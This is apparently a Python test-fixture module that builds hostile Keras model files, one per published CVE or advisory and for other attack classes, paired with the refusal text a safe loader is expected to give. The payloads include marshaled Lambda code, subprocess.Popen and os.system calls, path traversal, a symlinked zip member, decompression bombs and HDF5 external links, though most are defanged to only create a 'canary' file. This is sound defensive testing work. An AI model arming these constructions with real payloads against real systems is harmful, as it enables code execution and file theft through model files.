"""Model files that try to do harm, one for each published way; none of them is dangerous.

Those that would run code leave the file `canary` in the working directory, those that would read one read it.
"""

import base64
import io
import json
import marshal
import pathlib
import stat
import tempfile
import warnings
import zipfile

import h5py
import keras
import numpy as np

from fer_keras.data import EMOTIONS

CONFIG, WEIGHTS = "config.json", "model.weights.h5"


def honest():
    """Return `{member: bytes}` of a model that is welcome, (4, 4, 1) to 7 classes."""
    layers = [keras.Input((4, 4, 1)), keras.layers.Flatten(), keras.layers.Dense(7, name="_".join(EMOTIONS))]
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder, "model.keras")
        keras.Sequential(layers, name="honest").save(path)
        with zipfile.ZipFile(path) as archive:
            return {name: archive.read(name) for name in archive.namelist()}


def pack(path, members, compression=zipfile.ZIP_STORED):
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def with_layer(**layer):
    """A layer between the honest ones; `layer` holds `class_name`, `config` and what else Keras reads."""

    def make(path):
        members = honest()
        config = json.loads(members[CONFIG])
        config["config"]["layers"].insert(2, {"module": "keras.layers", "registered_name": None, **layer})
        pack(path, members | {CONFIG: json.dumps(config)})

    return make


def with_setting(key, value):
    """A setting of the honest model's last layer."""

    def make(path):
        members = honest()
        config = json.loads(members[CONFIG])
        config["config"]["layers"][-1]["config"][key] = value
        pack(path, members | {CONFIG: json.dumps(config)})

    return make


def with_members(**members):
    return lambda path: pack(path, honest() | {name.replace("__", "/"): value for name, value in members.items()})


def with_weights(change):
    """The honest weights after `change(file, group)` of the HDF5 file and of the last layer's group in it."""

    def make(path):
        members = honest()
        buffer = io.BytesIO(members[WEIGHTS])
        with h5py.File(buffer, "r+") as file:
            change(file, file["layers/dense/vars"])
        pack(path, members | {WEIGHTS: buffer.getvalue()})

    return make


def code():
    """Return a function that leaves the canary, as Keras stores those of Lambda layers."""
    function = lambda x: (open("canary", "w").close(), x)[1]  # noqa: E731, SIM115
    return base64.b64encode(marshal.dumps(function.__code__)).decode()


def a_lambda():
    return {"class_name": "__lambda__", "config": {"value": [code(), None, None]}}


def a_function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _replace(group, name, make):
    del group[name]
    make(group)


def shape_bomb(file, group):
    _replace(group, "0", lambda g: g.create_dataset("0", (1 << 20, 1 << 20), "f4", chunks=(1024, 1024)))


def empty_claim(file, group):
    _replace(group, "0", lambda g: g.create_dataset("0", (1 << 20, 1 << 20), "f4"))


def packed_bomb(file, group):
    zeros = np.zeros((4096, 4096), "f4")
    _replace(group, "0", lambda g: g.create_dataset("0", data=zeros, chunks=True, compression="gzip"))


def external_data(file, group):
    _replace(group, "0", lambda g: g.create_dataset("0", (16, 7), "f4", external=[("canary", 0, 448)]))


def external_link(file, group):
    group.file["layers"].__delitem__("dense")
    group.file["layers/dense"] = h5py.ExternalLink("canary", "/")


def soft_link(file, group):
    file["elsewhere"] = np.zeros((16, 7), "f4")
    _replace(group, "0", lambda g: g.__setitem__("0", h5py.SoftLink("/elsewhere")))


def virtual_data(file, group):
    layout = h5py.VirtualLayout((16, 7), "f4")
    layout[:] = h5py.VirtualSource("canary", "x", (16, 7))
    _replace(group, "0", lambda g: g.create_virtual_dataset("0", layout))


def circle(file, group):
    group["itself"] = file["layers"]


def words(file, group):
    _replace(group, "0", lambda g: g.create_dataset("0", data=["text"], dtype=h5py.string_dtype()))


def h5_file(path):
    """The older format, whose Lambda layers safe mode does not look at, under the newer one's name."""
    with h5py.File(path, "w") as file:
        layer = {"class_name": "Lambda", "config": {"name": "l", "function": a_lambda()}}
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}})


def zip_link(path):
    pack(path, honest())
    with zipfile.ZipFile(path, "a") as archive:
        link = zipfile.ZipInfo("assets/link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "../../canary")


def zip_bomb(path):
    pack(path, honest() | {CONFIG: b" " * (17 << 20)}, zipfile.ZIP_DEFLATED)


def two_configs(path):
    """A config that is checked and another one that is loaded, if they were looked up in different ways."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        pack(path, honest())
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(CONFIG, "{}")


def pickled_weights(path):
    members = honest()
    del members[WEIGHTS]
    buffer = io.BytesIO()
    np.savez(buffer, object=np.array([{"a": 1}], dtype=object))
    pack(path, members | {"model.weights.npz": buffer.getvalue()})


def deep(path):
    pack(path, honest() | {CONFIG: '{"class_name": "Sequential", "config": ' + "[" * 150 + "]" * 150 + "}"})


LAMBDA = {"name": "l", "function": a_lambda()}
GET_FILE = {"fname": "x.tar.gz", "origin": "file:///canary", "extract": True}
# name: (what it would do, how it is made, what the refusal says)
FILES = {
    "CVE-2024-3660": (
        "a Lambda layer runs its code when the model is loaded",
        with_layer(class_name="Lambda", config=LAMBDA),
        "'Lambda' of 'keras.layers'",
    ),
    "CVE-2025-1550": (
        "the configuration names any class or function of any module",
        with_layer(module="subprocess", class_name="Popen", config={"args": ["touch", "canary"]}),
        "'Popen' of 'subprocess'",
    ),
    "CVE-2025-8747": (
        "a function of Keras itself, such as get_file, is called in safe mode",
        with_layer(class_name="Lambda", config=LAMBDA | {"function": a_function("keras.utils", "get_file")}),
        "of 'keras.",
    ),
    "CVE-2025-9905": (
        "an .h5 file runs its Lambda layers whatever safe mode says",
        h5_file,
        "no whole .keras file",
    ),
    "CVE-2025-9906": (
        "the configuration switches safe mode off, then runs a Lambda layer",
        with_setting("activation", a_function("keras.config", "enable_unsafe_deserialization")),
        "'enable_unsafe_deserialization' of 'keras.config'",
    ),
    "CVE-2025-49655": (
        "TorchModuleWrapper unpickles what the configuration holds",
        with_layer(class_name="TorchModuleWrapper", config={"name": "t", "module": "gASVAAAA"}),
        "'TorchModuleWrapper' of 'keras.layers'",
    ),
    "CVE-2025-12058": (
        "StringLookup reads any file, or asks any server, for its vocabulary",
        with_layer(class_name="StringLookup", config={"name": "s", "vocabulary": "/etc/hostname"}),
        "'StringLookup' of 'keras.layers'",
    ),
    "CVE-2025-12060": (
        "get_file unpacks a tar archive outside its folder",
        with_layer(module="keras.utils", class_name="get_file", config=GET_FILE),
        "'get_file' of 'keras.utils'",
    ),
    "CVE-2025-12638": (
        "the same through a link in the archive",
        with_setting("kernel_initializer", a_function("keras.utils", "get_file")),
        "'get_file' of 'keras.utils'",
    ),
    "CVE-2026-0897": (
        "weights declare a shape that no memory holds",
        with_weights(shape_bomb),
        "declares 4,398,046",
    ),
    "CVE-2026-1669": ("weights are read from another file", with_weights(external_data), "from another file"),
    "CVE-2026-1462": (
        "TFSMLayer loads a SavedModel, which can run any code, from any path",
        with_layer(class_name="TFSMLayer", config={"name": "t", "filepath": "canary"}),
        "'TFSMLayer' of 'keras.layers'",
    ),
    "GHSA-hqp4-2352-xf5r": (
        "a member of the archive is unpacked outside its folder",
        with_members(**{"assets__..__..__canary": b"x"}),
        "it holds 'metadata.json', 'config.json', 'model.weights.h5', 'assets/../../canary' instead",
    ),
    "CVE-2026-12479": (
        "a layer's name leads its assets out of the folder",
        with_setting("name", "../../canary"),
        "which could be a path",
    ),
    "CVE-2026-12481": (
        "a Lambda's code inside another layer's settings runs when the model is cloned",
        with_setting("activation", a_lambda()),
        "'__lambda__' of None",
    ),
    "a link in the archive": ("a member is a link to another file", zip_link, "'assets/link' instead"),
    "a large configuration": ("17 MiB of blanks packed to 17 kB", zip_bomb, "unpacks to 17,825,792 bytes"),
    "two configurations": (
        "one is checked, the other is loaded",
        two_configs,
        "it holds 'metadata.json', 'config",
    ),
    "pickled weights": (
        "weights as .npz, which can hold a pickle",
        pickled_weights,
        "'model.weights.npz' instead",
    ),
    "deep nesting": ("brackets in brackets use up the stack", deep, "nested more than 100 deep"),
    "unwritten weights": (
        "weights declare bytes that were never written",
        with_weights(empty_claim),
        "and holds 0",
    ),
    "packed weights": ("64 MiB of zeros packed to 64 kB", with_weights(packed_bomb), "declares 67,108,864 bytes"),
    "external link": ("a group lies in another file", with_weights(external_link), "has a link at 'dense'"),
    "soft link": ("an array is another one under a second name", with_weights(soft_link), "has a link at '0'"),
    "virtual array": (
        "an array is put together from other files",
        with_weights(virtual_data),
        "from another file",
    ),
    "circle": ("a group holds itself", with_weights(circle), "holds something twice"),
    "words": ("an array of texts instead of numbers", with_weights(words), "is no array of numbers"),
    "many units": (
        "a layer of 10 to the 12 weights in a file of 20 kB",
        with_setting("units", 10**12),
        "describes 17,000,000,000,000 weights",
    ),
    "large images": (
        "a layer that makes 10 to the 10 values of one image",
        with_layer(class_name="RepeatVector", config={"name": "r", "n": 10**9}),
        "a layer makes 16,000,000,000 values",
    ),
    "a foreign class": (
        "a class that some other package registered",
        with_layer(module=None, class_name="Anything", config={}, registered_name="package>Anything"),
        "'package>Anything' of None",
    ),
    "JaxLayer": (
        "a layer that calls a function of another module",
        with_layer(class_name="JaxLayer", config={"call_fn": a_function("os", "system")}),
        "which can run code",
    ),
    "a file's name as a function": (
        "an activation from a Keras module that has none",
        with_setting("activation", a_function("keras.saving", "load_model")),
        "'load_model' of 'keras.saving'",
    ),
}
